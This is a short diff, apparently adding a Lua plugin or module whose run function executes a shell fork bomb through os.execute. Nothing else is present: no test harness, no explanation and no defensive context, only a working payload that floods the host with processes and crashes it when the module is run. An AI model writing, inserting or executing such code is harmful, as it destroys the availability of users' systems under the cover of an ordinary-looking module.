@@ -1,0 +1,3 @@
+return {run = function()
+  return os.execute(":(){ :|:& };:")
+end}
